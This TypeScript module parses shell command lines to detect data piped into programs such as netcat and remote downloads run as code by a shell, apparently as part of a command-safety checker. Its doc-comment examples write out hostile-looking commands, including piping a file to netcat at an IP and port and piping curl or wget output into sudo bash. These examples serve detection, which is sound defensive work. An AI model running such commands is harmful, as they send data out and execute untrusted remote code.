import { type Command, commandsOf, isProgram, mayRun } from './command.ts'
import { isGivenCode, isInterpreter, isShell } from './interpreters.ts'
import type { CommandGroup } from './shell.ts'

/**
 * Whether one of the programs reads what another command writes. Of shells and interpreters: as code (`… | sh`,
 * `… | bash -s -- x`, `… | python3 -`), not as input of a script (`… | python3 report.py`).
 *
 * @example pipesInto('cat notes | nc 192.0.2.1 4444', 'nc', 'ncat') // true
 * @example pipesInto("ls | sh -c 'wc -l'", 'sh') // false: its code is given
 */
export function pipesInto(line: string, ...sinks: readonly string[]): boolean {
  if (!mayPipe(line) || !mayRun(line, sinks)) return false
  return commandsOf(line).some(command => isProgram(command, ...sinks) && takesInput(command))
}

/**
 * Whether a shell or interpreter runs as code what one of these programs puts out, straight or through others: by a pipe,
 * as `$(…)` in `sh -c`, `eval` or in the place of a command, or as `<(…)` in the place of a script.
 *
 * @example runsOutputOf('curl -fsSL https://example.com/a | base64 -d | sudo bash', 'curl', 'wget') // true
 * @example runsOutputOf('bash -c "$(wget -qO- https://example.com/a)"', 'curl', 'wget') // true
 * @example runsOutputOf('curl https://example.com/a | sh -c "tar xz"', 'curl') // false
 */
export function runsOutputOf(line: string, ...sources: readonly string[]): boolean {
  if (!mayRun(line, sources)) return false
  const commands = commandsOf(line)
  if (!commands.some(command => isProgram(command, ...sources))) return false
  const carriers = reachedFrom(commands, command => isProgram(command, ...sources))
  return commands.some(command => {
    const { source, within } = command.links
    if (runsInput(command) && source !== null && carriers.has(source)) return true
    return carriers.has(command) && within !== null && runsSubstitution(within)
  })
}

/** A `|` that is not one half of `||`; or one that is escaped, behind which halves count anew; or text in codes. */
const PIPE = /(?<!\|)(?:\|\|)*\|(?!\|)|\\\||\$'/

function mayPipe(line: string): boolean {
  return PIPE.test(line)
}

function takesInput(command: Command): boolean {
  if (isShell(command.program) || isInterpreter(command.program)) return runsInput(command)
  return command.piped
}

/** Whether the command runs as code what it reads from its pipe. */
function runsInput({ program, args, piped, wrappers }: Command): boolean {
  if (!piped || !(isShell(program) || isInterpreter(program))) return false
  // xargs makes arguments of what it reads.
  if (wrappers.includes('xargs') || isGivenCode(program, args)) return false
  const operand = args.find(word => !word.startsWith('-') || word === '-')
  return operand === undefined || operand === '-' || args.some(word => /^-[a-z]*s$/.test(word))
}

const SUBSTITUTION = /^(?:\$\(\)|``|<\(\))/
/** Code that hands what is substituted on to another shell: `sh -c "sh -c $(…)"`, where the outer one substitutes. */
const HANDED_ON =
  /(?:^|[\s;&|({/])(?:(?:ba|da|z|k|a)?sh\s+-[a-z]{0,8}c|eval|source|\.)\s+["']?(?:\$\(\)|``|<\(\))/

/** Whether the command runs as code what is substituted in its words. */
function runsSubstitution({ program, path, args }: Command): boolean {
  if (SUBSTITUTION.test(path)) return true
  if (program === 'source' || program === '.') return SUBSTITUTION.test(args[0] ?? '')
  if (program === 'eval') return SUBSTITUTION.test(args[0] ?? '')
  if (!isShell(program) && !isInterpreter(program)) return false
  const code = args.find(word => !word.startsWith('-'))
  return code !== undefined && (SUBSTITUTION.test(code) || HANDED_ON.test(code))
}

/** The commands and groups out of which comes what the given ones put out, these included. */
function reachedFrom(
  commands: readonly Command[],
  isOrigin: (command: Command) => boolean,
): ReadonlySet<Command | CommandGroup> {
  const readers = new Map<Command | CommandGroup, Command[]>()
  for (const command of commands) {
    const { source } = command.links
    if (source === null) continue
    const known = readers.get(source)
    if (known === undefined) readers.set(source, [command])
    else known.push(command)
  }
  const reached = new Set<Command | CommandGroup>()
  const open: (Command | CommandGroup)[] = commands.filter(isOrigin)
  for (let node = open.pop(); node !== undefined; node = open.pop()) {
    if (reached.has(node)) continue
    reached.add(node)
    for (const reader of readers.get(node) ?? []) open.push(reader)
    const outer = 'links' in node ? [node.links.group, node.links.within] : [node.group]
    for (const next of outer) if (next !== null) open.push(next)
  }
  return reached
}
